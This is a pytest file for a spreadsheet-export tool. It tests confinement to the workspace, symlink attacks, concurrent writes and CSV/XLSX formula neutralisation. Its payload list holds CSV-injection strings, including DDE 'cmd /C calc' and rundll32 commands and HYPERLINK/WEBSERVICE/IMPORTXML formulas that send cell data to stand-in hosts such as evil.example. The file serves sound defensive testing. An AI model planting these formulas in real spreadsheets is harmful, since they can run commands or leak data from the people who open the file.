"""Writes never leave the workspace, survive concurrent sessions, and never carry a live formula."""

from __future__ import annotations

import csv
import io
import itertools
import os
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from engine.session import Session
from tools import write
from tools.errors import OutsideWorkspace, WriteFailed
from tools.workspace import TMP_PREFIX, Workspace
from tools.write import publish, write_csv_file, write_xlsx_file, write_xlsx_sheets

ROOT = Path(__file__).resolve().parent.parent

# OWASP-style CSV-injection payloads: formulas, DDE, hyperlinks, full-width and blank-prefixed triggers,
# and values carrying CR / LF / tab that would split a record if left unquoted.
PAYLOADS = [
    "=1+1", "=1+1\r=2+2", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "=cmd|' /C notepad'!'A1'",
    "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "=IMPORTXML(CONCAT(\"http://e.example/?v=\",A1),\"//a\")",
    "=WEBSERVICE(\"http://e.example/\"&A1)", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=10+20+cmd|' /C calc'!A0", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "+thisIsNotANumber", "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A10)", "=A1&A2", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    "\tplain tab start", "\rplain cr start", "=1+1\n=2+2", "text\r=1+1", "a,b\r\n=1+1", "x\ty\t=1+1",
    "=\"quoted\"\"inside\"", "=SUM(1,2)", "@@weird", "==double", "plain text is kept",
]
assert len(PAYLOADS) == 40
TRIGGERS = "=+-@＝＋－＠"


def expect_guarded(value: str) -> bool:
    """Recomputed independently of the writer: what a spreadsheet program could run as a formula."""
    first = value.lstrip(" \t\r\n\x0b\x0c\u3000")[:1]
    return value[:1] in ("\t", "\r") or (first != "" and first in TRIGGERS)


def test_corpus_has_both_kinds():
    assert 30 <= sum(map(expect_guarded, PAYLOADS)) < 40


# ---------------------------------------------------------------- no write outside the workspace


def _outside(tmp_path: Path) -> tuple[Path, Path]:
    root, outside = tmp_path / "ws", tmp_path / "elsewhere"
    root.mkdir()
    outside.mkdir()
    return root, outside


@pytest.mark.parametrize("folder", ["outputs", ".wenqing"])
def test_a_folder_linked_out_of_the_workspace_is_refused(tmp_path, folder):
    root, outside = _outside(tmp_path)
    os.symlink(outside, root / folder)
    ws = Workspace.at(root)
    with pytest.raises(OutsideWorkspace) as e:
        if folder == "outputs":
            write_csv_file(ws, pd.DataFrame({"a": [1]}), "结果")
        else:
            ws.state_dir()
    assert "工作区之外" in e.value.zh and str(outside) in e.value.zh
    assert list(outside.iterdir()) == []


def test_files_behind_a_linked_outputs_are_not_listed_as_results(tmp_path):
    root, outside = _outside(tmp_path)
    (outside / "secret.csv").write_text("a\n1\n")
    os.symlink(outside, root / "outputs")
    assert Workspace.at(root).output_files() == []


def test_a_dangling_link_out_is_refused_and_nothing_is_created(tmp_path):
    root, outside = _outside(tmp_path)
    os.symlink(outside / "new", root / "outputs")
    with pytest.raises(OutsideWorkspace):
        write_xlsx_file(Workspace.at(root), pd.DataFrame({"a": [1]}), "结果")
    assert not (outside / "new").exists()


def test_a_link_that_stays_inside_is_followed(tmp_path):
    root, _ = _outside(tmp_path)
    (root / "results").mkdir()
    os.symlink(root / "results", root / "outputs")
    w = write_csv_file(Workspace.at(root), pd.DataFrame({"a": [1]}), "结果")
    assert w.path == root / "results" / "结果.csv" and w.path.read_bytes().startswith(b"\xef\xbb\xbf")


def test_session_export_through_a_linked_outputs_says_so_and_writes_nothing(ws_dir, tmp_path):
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    os.symlink(outside, ws_dir / "outputs")
    tr = Session(Workspace.at(ws_dir)).turn("北京_poi.xlsx按评分从高到低排序")
    assert tr.run.status == "failed" and tr.run.fallback_reason == "outside_workspace"
    assert any("工作区之外" in n for n in tr.run.notes)
    assert list(outside.iterdir()) == []


def test_a_link_planted_at_the_output_name_is_never_written_through(tmp_path):
    root, outside = _outside(tmp_path)
    victim = outside / "victim.csv"
    victim.write_text("keep me")
    (root / "outputs").mkdir()
    os.symlink(victim, root / "outputs" / "结果.csv")
    w = write_csv_file(Workspace.at(root), pd.DataFrame({"a": [1]}), "结果")
    assert w.path.name == "结果_2.csv" and victim.read_text() == "keep me"


def test_a_link_planted_at_the_temporary_name_is_never_written_through(tmp_path, monkeypatch):
    root, outside = _outside(tmp_path)
    victim = outside / "victim.txt"
    victim.write_text("keep me")
    (root / "outputs").mkdir()
    monkeypatch.setattr(write, "_attempts", itertools.count(1))
    monkeypatch.setattr(write.secrets, "token_hex", lambda n: "ab" * n)
    planted = root / "outputs" / f"{TMP_PREFIX}{os.getpid()}-1-abababab.csv"
    os.symlink(victim, planted)
    w = write_csv_file(Workspace.at(root), pd.DataFrame({"a": [1, 2]}), "结果")
    assert victim.read_text() == "keep me"
    assert w.path.name == "结果.csv" and pd.read_csv(w.path, encoding="utf-8-sig")["a"].tolist() == [1, 2]
    assert planted.is_symlink()  # left for the sweep; it never pointed our data anywhere


def test_a_temporary_file_swapped_for_a_link_while_writing_is_not_published(tmp_path):
    root, outside = _outside(tmp_path)
    victim = outside / "victim.txt"
    victim.write_text("keep me")
    out = root / "outputs"
    out.mkdir()

    def fill(f):
        f.write(b"data")
        (tmp,) = [p for p in out.iterdir() if p.name.startswith(TMP_PREFIX)]
        tmp.rename(out / "moved")
        os.symlink(victim, tmp)

    with pytest.raises(WriteFailed):
        publish(Workspace.at(root), "结果", "csv", fill)
    assert victim.read_text() == "keep me"
    assert not (out / "结果.csv").exists() and not (out / "结果.csv").is_symlink()


# ---------------------------------------------------------------- concurrent sessions

EXPORTER = textwrap.dedent("""
    import sys, time
    sys.path.insert(0, sys.argv[1])
    import pandas as pd
    from tools.workspace import Workspace
    from tools.write import write_csv_file, write_xlsx_file
    ws, me = Workspace.at(sys.argv[2]), sys.argv[3]
    while time.time() < float(sys.argv[4]):
        time.sleep(0.005)
    for i in range(16):
        df = pd.DataFrame({"who": [me], "i": [i]})
        (write_xlsx_file if i % 4 == 3 else write_csv_file)(ws, df, f"结果{i % 3}")
""")


def test_three_processes_exporting_the_same_names_lose_no_write(tmp_path):
    start = time.time() + 3
    procs = [
        subprocess.Popen([sys.executable, "-c", EXPORTER, str(ROOT), str(tmp_path), f"p{k}", str(start)],
                         stderr=subprocess.PIPE, text=True)
        for k in range(3)
    ]
    errors = [p.communicate(timeout=120)[1] for p in procs]
    assert [p.returncode for p in procs] == [0, 0, 0], errors
    files = sorted((tmp_path / "outputs").iterdir())
    assert not [f for f in files if f.name.startswith(TMP_PREFIX)]
    got = set()
    for f in files:
        df = pd.read_excel(f, engine="openpyxl") if f.suffix == ".xlsx" else pd.read_csv(f, encoding="utf-8-sig")
        got.update(zip(df["who"], df["i"], strict=True))
    assert got == {(f"p{k}", i) for k in range(3) for i in range(16)} and len(files) == 48


HOLDER = textwrap.dedent("""
    import sys
    sys.path.insert(0, sys.argv[1])
    from tools.workspace import Workspace
    from tools.write import _create_temp
    fd_dir, _ = Workspace.at(sys.argv[2]).open_dir("outputs")
    name, fd = _create_temp(fd_dir, "csv")
    print(name, flush=True)
    sys.stdin.readline()
""")


def test_start_up_sweep_keeps_a_running_export_and_removes_orphans(tmp_path):
    out = tmp_path / "outputs"
    out.mkdir()
    holder = subprocess.Popen([sys.executable, "-c", HOLDER, str(ROOT), str(tmp_path)], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, text=True)
    running = out / holder.stdout.readline().strip()
    dead = subprocess.Popen([sys.executable, "-c", "import os; print(os.getpid())"], stdout=subprocess.PIPE, text=True)
    dead_pid = int(dead.communicate()[0])
    orphan = out / f"{TMP_PREFIX}{dead_pid}-1-00000000.csv"
    orphan.write_text("partial")
    unlocked = out / f"{TMP_PREFIX}{os.getppid()}-7-11111111.csv"  # a live pid, but nobody holds the file
    unlocked.write_text("partial")
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    os.symlink(victim, out / f"{TMP_PREFIX}{os.getppid()}-8-22222222.csv")
    try:
        Session(Workspace.at(tmp_path))
        assert running.exists()
        assert not orphan.exists() and not unlocked.exists() and victim.read_text() == "keep me"
        assert [p.name for p in out.iterdir()] == [running.name]
    finally:
        holder.stdin.close()
        holder.wait()
    assert Workspace.at(tmp_path).remove_stray_temporaries() == 1 and not running.exists()


def test_the_sweep_never_deletes_through_a_linked_outputs(tmp_path):
    root, outside = _outside(tmp_path)
    stray = outside / f"{TMP_PREFIX}1-x.csv"
    stray.write_text("not ours")
    os.symlink(outside, root / "outputs")
    assert Workspace.at(root).remove_stray_temporaries() == 0 and stray.exists()


# ---------------------------------------------------------------- formula neutralisation


def _corpus_frame() -> pd.DataFrame:
    return pd.DataFrame({"payload": PAYLOADS, "=HEADER()": PAYLOADS[::-1], "n": range(40)})


def test_corpus_round_trips_through_csv_without_a_live_formula(tmp_path):
    df = _corpus_frame()
    w = write_csv_file(Workspace.at(tmp_path), df, "corpus")
    expected = 2 * sum(map(expect_guarded, PAYLOADS)) + 1  # two text columns and one header
    assert w.protected == expected
    rows = list(csv.reader(io.StringIO(w.path.read_bytes().decode("utf-8-sig"), newline="")))
    assert len(rows) == 41  # CR, LF and tab inside a value never start a new record
    for row in rows:
        for cell in row:
            assert not expect_guarded(cell), cell
    assert rows[0] == ["payload", "'=HEADER()", "n"]
    inert = ["'" + p if expect_guarded(p) else p for p in PAYLOADS]
    assert [r[0] for r in rows[1:]] == inert and [r[1] for r in rows[1:]] == inert[::-1]
    assert [r[2] for r in rows[1:]] == [str(i) for i in range(40)]


def test_corpus_round_trips_through_xlsx_without_a_formula_cell(tmp_path):
    df = _corpus_frame()
    w = write_xlsx_sheets(Workspace.at(tmp_path), [("=cmd|' /C calc'!A0", df), ("@SUM(1)", df.head(3))], "corpus")
    per_sheet = lambda d: 1 + sum(map(expect_guarded, d["payload"])) + sum(map(expect_guarded, d["=HEADER()"]))  # noqa: E731
    assert w.protected == per_sheet(df) + per_sheet(df.head(3)) + 2  # and two sheet names
    wb = load_workbook(w.path)
    assert not any(expect_guarded(name) for name in wb.sheetnames)
    cells = [c for sh in wb.worksheets for row in sh.iter_rows() for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    sh = wb.worksheets[0]
    assert sh["B1"].value == "=HEADER()" and sh["B1"].data_type == "s"
    # read back with calamine: openpyxl leaves Excel's escape of CR (_x000D_) in inline text as it is
    from python_calamine import CalamineWorkbook

    rows = CalamineWorkbook.from_path(str(w.path)).get_sheet_by_index(0).to_python()
    assert [r[0] for r in rows[1:]] == PAYLOADS and [r[1] for r in rows[1:]] == PAYLOADS[::-1]


def test_the_answer_counts_protected_cells(ws_dir):
    pd.DataFrame({"名称": ["=1+1", "@SUM(A1)", "ok"], "=金额": [1, 2, 3]}).to_csv(ws_dir / "注入.csv", index=False)
    tr = Session(Workspace.at(ws_dir)).turn("把 注入.csv 转成 xlsx")
    assert tr.run.status == "answered", tr.run.notes
    assert "有 3 个以 = + - @ 开头的单元格" in tr.run.answer and not tr.run.notes, (tr.run.answer, tr.run.notes)
    (written,) = [e for e in tr.events if e["event"] == "file_written"]
    assert written["inert_cells"] == 3
    (path,) = [f["path"] for f in tr.run.files]
    wb = load_workbook(ws_dir / path)
    assert not [c for row in wb.worksheets[0].iter_rows() for c in row if c.data_type == "f"]
    info = dict(wb["说明"].iter_rows(min_row=2, values_only=True))
    assert info["安全处理"].startswith("有 3 个以 = + - @ 开头的单元格")


# ---------------------------------------------------------------- characters an xlsx cannot hold


def test_control_characters_are_cleaned_and_counted(tmp_path):
    df = pd.DataFrame({"名\x01称": ["a\x00b", "ok", "c\x1bd", None], "x": ["\x0bq", "tab\tand\nnewline", "", "e"],
                       "obj": pd.Series(["lone \ud800 surrogate", 1, "f\x02", 2.5], dtype=object)})
    bad = sum(isinstance(v, str) and any(ord(ch) < 32 and ch not in "\t\n\r" or 0xD800 <= ord(ch) <= 0xDFFF for ch in v)
              for v in [*df.columns, *df.to_numpy().ravel()])
    w = write_xlsx_file(Workspace.at(tmp_path), df, "clean")
    assert w.cleaned == bad == 6
    sh = load_workbook(w.path).worksheets[0]
    assert [c.value for c in sh[1]] == ["名称", "x", "obj"]
    assert [sh.cell(r, 1).value for r in (2, 3, 4)] == ["ab", "ok", "cd"] and sh["B3"].value == "tab\tand\nnewline"
    assert sh["C2"].value == "lone  surrogate" and sh["C3"].value == 1 and sh["C4"].value == "f"


def test_a_session_exports_a_cell_with_a_control_character(ws_dir):
    pd.DataFrame({"名称": ["a\x07b", "ok"], "数量": [1, 2]}).to_csv(ws_dir / "控制字符.csv", index=False)
    tr = Session(Workspace.at(ws_dir)).turn("把 控制字符.csv 转成 xlsx")
    assert tr.run.status == "answered", tr.run.notes
    assert "有 1 个单元格含有 xlsx 无法保存的控制字符" in tr.run.answer, tr.run.answer
    (path,) = [f["path"] for f in tr.run.files]
    assert [c.value for c in load_workbook(ws_dir / path).active["A"]] == ["名称", "ab", "ok"]


ODD_COLUMNS = {
    "category": pd.Categorical(["x", "=y", None]),
    "infinite": [1.5, float("inf"), float("-inf")],
    "mixed": pd.Series(["=a", 1, None], dtype=object),
    "nullable": pd.array([True, None, False], dtype="boolean"),
    "big ids": [2**60 + 1, 5, 7],
}


@pytest.mark.parametrize("kind", list(ODD_COLUMNS))
def test_no_dtype_lets_a_formula_through(tmp_path, kind):
    df = pd.DataFrame({kind: ODD_COLUMNS[kind], "@h": ["=1", "+2", "ok"]})
    ws = Workspace.at(tmp_path)
    x = write_xlsx_file(ws, df, kind)
    cells = [c for row in load_workbook(x.path).active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    rows = list(csv.reader(io.StringIO(write_csv_file(ws, df, kind).path.read_bytes().decode("utf-8-sig"), newline="")))
    assert len(rows) == 4 and not [cell for row in rows for cell in row if expect_guarded(cell)]


# ---------------------------------------------------------------- wenqing's own files in .wenqing/


def test_state_files_are_replaced_never_written_through_a_link(tmp_path):
    root, outside = _outside(tmp_path)
    victim = outside / "victim.json"
    victim.write_text("keep me")
    ws = Workspace.at(root)
    (root / ".wenqing" / "recipes").mkdir(parents=True)
    os.symlink(victim, root / ".wenqing" / "recipes" / "r.json")
    path = write.save_state(ws, "recipes", "r.json", b'{"a": 1}')
    assert path.read_text() == '{"a": 1}' and not path.is_symlink() and victim.read_text() == "keep me"
    assert sorted(p.name for p in path.parent.iterdir()) == ["r.json"]
    os.symlink(victim, root / ".wenqing" / "errors.log")
    with pytest.raises(OSError):
        write.append_state(ws, "errors.log", "trace")
    assert victim.read_text() == "keep me"


def test_state_files_refuse_a_linked_state_folder(tmp_path):
    root, outside = _outside(tmp_path)
    os.symlink(outside, root / ".wenqing")
    ws = Workspace.at(root)
    with pytest.raises(OutsideWorkspace):
        write.save_state(ws, "recipes", "r.json", b"{}")
    with pytest.raises(OutsideWorkspace):
        write.append_state(ws, "errors.log", "trace")
    assert list(outside.iterdir()) == []


def test_three_chat_sessions_exporting_the_same_names_all_keep_their_files(ws_dir, tmp_path):
    import json

    turns = tmp_path / "turns.txt"
    turns.write_text("把 库存明细.csv 导出为 xlsx\n把 库存明细.csv 导出为 csv\n把 北京_poi.xlsx 导出为 csv\n", encoding="utf-8")
    cmd = [sys.executable, "-m", "repl.cli", "chat", "--workspace", str(ws_dir), "--script", str(turns), "--events"]
    procs = [subprocess.Popen([*cmd, str(tmp_path / f"e{k}.jsonl")], cwd=ROOT, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True) for k in range(3)]
    outs = [p.communicate(timeout=120) for p in procs]
    assert [p.returncode for p in procs] == [0, 0, 0], outs
    written = [json.loads(line)["path"] for k in range(3)
               for line in (tmp_path / f"e{k}.jsonl").read_text(encoding="utf-8").splitlines() if '"file_written"' in line]
    assert len(written) == len(set(written)) == 9
    assert sorted(written) == sorted(f"outputs/{p.name}" for p in (ws_dir / "outputs").iterdir())


def test_lone_surrogates_anywhere_never_break_an_export(tmp_path):
    df = pd.DataFrame({"a": pd.Series(["x\ud801", None], dtype=object)})
    df.columns = pd.Index(["h\ud800"], dtype=object)
    ws = Workspace.at(tmp_path)
    x = write_xlsx_sheets(ws, [("s\ud800heet", df)], "out\udc00")
    c = write_csv_file(ws, df, "out\udc00")
    assert x.path.name == "out_.xlsx" and c.path.name == "out_.csv" and x.cleaned == 2
    wb = load_workbook(x.path)
    assert wb.sheetnames == ["sheet"] and [cell.value for cell in wb.active["A"]] == ["h", "x"]
    assert c.path.read_bytes().decode("utf-8-sig").splitlines()[:2] == ['"h?"', '"x?"']


def test_a_failed_write_leaves_neither_a_partial_file_nor_a_temporary(tmp_path):
    import errno

    def fill(f):
        f.write(b"half")
        raise OSError(errno.ENOSPC, "No space left on device")

    with pytest.raises(WriteFailed) as e:
        publish(Workspace.at(tmp_path), "结果", "csv", fill)
    assert "磁盘空间不足" in e.value.zh and "No space" not in e.value.zh and "disk is full" in e.value.en  # in the user's language
    assert list((tmp_path / "outputs").iterdir()) == []


def test_an_outputs_that_is_a_file_is_a_clear_message(tmp_path):
    (tmp_path / "outputs").write_text("not a folder")
    with pytest.raises(WriteFailed, match="不是一个普通文件夹"):
        write_csv_file(Workspace.at(tmp_path), pd.DataFrame({"a": [1]}), "结果")
    assert (tmp_path / "outputs").read_text() == "not a folder"
